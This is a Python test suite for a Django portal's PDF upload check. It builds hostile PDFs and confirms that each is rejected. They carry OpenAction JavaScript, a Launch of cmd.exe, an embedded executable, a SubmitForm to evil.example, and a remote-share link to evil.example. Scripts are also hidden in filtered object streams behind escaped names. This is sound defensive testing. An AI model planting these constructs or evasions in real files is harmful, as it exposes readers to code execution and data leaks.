"""PDFs are judged by a real parser (pikepdf/qpdf) and stored as the rewritten copy that was checked.

Every hostile file here is built in code: with pikepdf itself, or, where pikepdf cannot write the
trick (an object stream behind a filter other than Flate), byte by byte with a correct
cross-reference stream, so a real reader would open it.
"""

import base64
import io
import zlib

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from portal.demo.pdf import make_pdf
from portal.documents.pdf_check import MAX_OBJECTS
from portal.documents.validation import validate_upload

PDF = "application/pdf"


def javascript():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def upload(data, name="letter.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def refusal(data):
    with pytest.raises(ValidationError) as info:
        validate_upload(upload(data))
    return info.value.code


def saved(pdf, *, object_streams=False, **options):
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, **options)
    return out.getvalue()


def one_page():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf


def action(kind, **extra):
    return pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **extra)


def link_annotation(pdf, the_action):
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=the_action)
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([annotation])


# Where active content can sit: each builder returns a one-page PDF carrying it.


def openaction_javascript(pdf):
    pdf.Root.OpenAction = javascript()


def openaction_indirect_javascript(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(javascript())


def document_level_javascript(pdf):
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(javascript())]))
    )


def catalog_additional_actions(pdf):
    pdf.Root.AA = pikepdf.Dictionary(WC=javascript())


def page_additional_actions(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=javascript())


def xfa_form(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))


def embedded_file(pdf):
    stream = pdf.make_stream(b"MZ not a letter", Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("run.exe"), EF=pikepdf.Dictionary(F=stream))
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("run.exe"), spec]))
    )


def file_attachment_annotation(pdf):
    stream = pdf.make_stream(b"hidden", Type=pikepdf.Name.EmbeddedFile)
    spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.bin"), EF=pikepdf.Dictionary(F=stream))
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 10, 10], FS=spec
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annotation)])


def link_that_launches(pdf):
    link_annotation(pdf, action("Launch", F=pikepdf.String("cmd.exe")))


def link_that_submits_a_form(pdf):
    link_annotation(pdf, action("SubmitForm", F=pikepdf.String("https://evil.example/")))


def link_that_imports_data(pdf):
    link_annotation(pdf, action("ImportData", F=pikepdf.String("data.fdf")))


def link_to_a_remote_file(pdf):
    link_annotation(pdf, action("GoToR", F=pikepdf.String("\\\\evil.example\\share\\x.pdf"), D=[0, pikepdf.Name.Fit]))


def link_to_an_embedded_file(pdf):
    link_annotation(pdf, action("GoToE", D=[0, pikepdf.Name.Fit]))


def rendition(pdf):
    link_annotation(pdf, action("Rendition", OP=0))


def a_safe_link_followed_by_javascript(pdf):
    link_annotation(pdf, action("GoTo", D=[pdf.pages[0].obj, pikepdf.Name.Fit], Next=javascript()))


def screen_annotation(pdf):
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Screen, Rect=[0, 0, 10, 10])
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annotation)])


def javascript_in_a_filtered_stream(pdf):
    script = pdf.make_stream(base64.b16encode(b"app.alert(1)") + b">")
    script.Filter = pikepdf.Name.ASCIIHexDecode
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script)


HOSTILE = [
    openaction_javascript,
    openaction_indirect_javascript,
    document_level_javascript,
    catalog_additional_actions,
    page_additional_actions,
    xfa_form,
    embedded_file,
    file_attachment_annotation,
    link_that_launches,
    link_that_submits_a_form,
    link_that_imports_data,
    link_to_a_remote_file,
    link_to_an_embedded_file,
    rendition,
    a_safe_link_followed_by_javascript,
    screen_annotation,
    javascript_in_a_filtered_stream,
]


@pytest.mark.parametrize("object_streams", [False, True], ids=["plain-objects", "in-object-streams"])
@pytest.mark.parametrize("build", HOSTILE, ids=lambda build: build.__name__)
def test_active_content_is_refused_wherever_it_sits(build, object_streams):
    pdf = one_page()
    build(pdf)
    assert refusal(saved(pdf, object_streams=object_streams)) == "pdf_active"


@pytest.mark.parametrize(
    "build",
    [
        lambda pdf: link_annotation(pdf, action("URI", URI=pikepdf.String("https://www.gov.uk/"))),
        lambda pdf: link_annotation(pdf, action("GoTo", D=[pdf.pages[0].obj, pikepdf.Name.Fit])),
        lambda pdf: setattr(pdf.Root, "OpenAction", pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])),
        lambda pdf: None,
    ],
    ids=["web-link", "page-link", "open-at-a-page", "plain"],
)
def test_links_and_plain_documents_are_accepted(build):
    pdf = one_page()
    build(pdf)
    result = validate_upload(upload(saved(pdf, object_streams=True)))
    assert result.content_type == PDF
    with pikepdf.open(io.BytesIO(result.clean_content)) as clean:
        assert len(clean.pages) == 1


def test_a_text_stream_or_picture_mentioning_script_names_is_only_data():
    """Names inside page content or image data are not objects: a reader never acts on them."""
    pdf = one_page()
    pdf.pages[0].obj.Contents = pdf.make_stream(zlib.compress(b"BT (/JavaScript /OpenAction /AA /JS) Tj ET"))
    pdf.pages[0].obj.Contents.Filter = pikepdf.Name.FlateDecode
    assert validate_upload(upload(saved(pdf))).content_type == PDF


def test_what_is_stored_is_the_rewritten_copy_without_hidden_updates():
    """An incremental update after the end of the file, a comment, anything qpdf does not use: gone."""
    data = saved(one_page()) + b"\n% a comment after the end\n9 0 obj << /S /JavaScript /JS (x) >> endobj\n"
    result = validate_upload(upload(data + b"%%EOF\n"))
    assert b"JavaScript" not in result.clean_content and b"a comment" not in result.clean_content
    with pikepdf.open(io.BytesIO(result.clean_content)) as clean:
        assert len(clean.pages) == 1


def test_encrypted_pdfs_are_refused():
    for encryption in (pikepdf.Encryption(owner="owner", user=""), pikepdf.Encryption(owner="o", user="secret")):
        assert refusal(saved(one_page(), encryption=encryption)) == "pdf_encrypted"


def test_a_pdf_with_too_many_objects_is_refused():
    pdf = one_page()
    pdf.Root.Filler = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary()) for _ in range(MAX_OBJECTS + 1)])
    assert refusal(saved(pdf, object_streams=True)) == "pdf_big"


def test_the_demo_letter_passes_and_keeps_its_text():
    data = make_pdf("Letter before proceedings", ["We are worried about some things."])
    result = validate_upload(upload(data))
    with pikepdf.open(io.BytesIO(result.clean_content)) as clean:
        text = b"".join(page.Contents.read_bytes() for page in clean.pages)
    assert b"worried" in text


# Object streams behind every filter, written by hand with a cross-reference stream.


def ascii_hex(data):
    return base64.b16encode(data) + b">"


def ascii_85(data):
    return base64.a85encode(data) + b"~>"


def run_length(data):
    out = b""
    for start in range(0, len(data), 128):
        chunk = data[start : start + 128]
        out += bytes([len(chunk) - 1]) + chunk
    return out + b"\x80"


def lzw(data):
    """LZW as PDF's LZWDecode reads it (early change, 9- to 12-bit codes)."""
    table = {bytes([i]): i for i in range(256)}
    next_code, width, bits, nbits, codes = 258, 9, 0, 0, [256]
    word = b""
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        codes.append((table[word], width))
        table[candidate] = next_code
        next_code += 1
        if next_code + 1 > (1 << width) and width < 12:
            width += 1
        word = bytes([byte])
    codes.append((table[word], width))
    codes.append((257, width))
    out = bytearray()
    codes[0] = (256, 9)
    for code, size in codes:
        bits = (bits << size) | code
        nbits += size
        while nbits >= 8:
            nbits -= 8
            out.append((bits >> nbits) & 0xFF)
    if nbits:
        out.append((bits << (8 - nbits)) & 0xFF)
    return bytes(out)


FILTERS = {
    "FlateDecode": zlib.compress,
    "ASCIIHexDecode": ascii_hex,
    "ASCII85Decode": ascii_85,
    "RunLengthDecode": run_length,
    "LZWDecode": lzw,
}


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PAGE_LINK = b"<< /S /GoTo /D [3 0 R /Fit] >>"


def pdf_with_object_stream(catalog, filters, action=SCRIPT):
    """Catalog (object 1) and an action (object 5) inside an object stream (object 6), encoded with
    `filters` in order; pages as plain objects; a cross-reference stream (object 7)."""
    inside = [catalog, action]
    header, body = b"", b""
    for number, text in zip((1, 5), inside, strict=True):
        header += b"%d %d " % (number, len(body))
        body += text + b"\n% a comment between objects\n"
    content = header + body
    for name in reversed(filters):
        content = FILTERS[name](content)
    filter_names = b"[" + b" ".join(b"/" + name.encode() for name in filters) + b"]"
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def add(number, text):
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, text))

    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")
    add(
        6,
        b"<< /Type /ObjStm /N 2 /First %d /Filter %s /Length %d >>\nstream\n%s\nendstream"
        % (len(header), filter_names, len(content), content),
    )
    rows = {0: (0, 0, 65535), 1: (2, 6, 0), 4: (0, 0, 0), 5: (2, 6, 1), 7: (1, 0, 0)}
    rows.update({n: (1, offsets[n], 0) for n in (2, 3, 6)})
    rows[7] = (1, len(out), 0)
    table = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + index.to_bytes(2, "big")
        for kind, field, index in (rows[n] for n in range(8))
    )
    out.extend(
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(table), table)
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % rows[7][1])
    return bytes(out)


CHAINS = [[name] for name in FILTERS] + [["ASCIIHexDecode", "FlateDecode"], ["ASCII85Decode", "LZWDecode"]]


@pytest.mark.parametrize("filters", CHAINS, ids=lambda chain: "+".join(chain))
def test_the_hand_built_object_stream_is_a_real_pdf(filters):
    """The control: the same file with a link to its page instead of a script is a good PDF."""
    data = pdf_with_object_stream(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", filters, PAGE_LINK)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 1 and str(pdf.Root.Type) == "/Catalog"
    assert validate_upload(upload(data)).content_type == PDF


@pytest.mark.parametrize("filters", CHAINS, ids=lambda chain: "+".join(chain))
@pytest.mark.parametrize(
    "catalog",
    [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R /#4F#70enAction 5 0 R >>",  # a name written with #-escapes
        b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<</Type/Catalog/Pages 2 0 R/AA<</WC 5 0 R>>>>",
        b"<< /Type /Catalog /Pages 2 0 R % a comment\n /OpenAction\n% another\n 5 0 R >>",
    ],
    ids=["openaction", "escaped-name", "escaped-javascript-tree", "additional-actions", "after-comments"],
)
def test_script_hidden_in_an_object_stream_behind_any_filter_is_refused(catalog, filters):
    data = pdf_with_object_stream(catalog, filters)
    assert refusal(data) == "pdf_active"
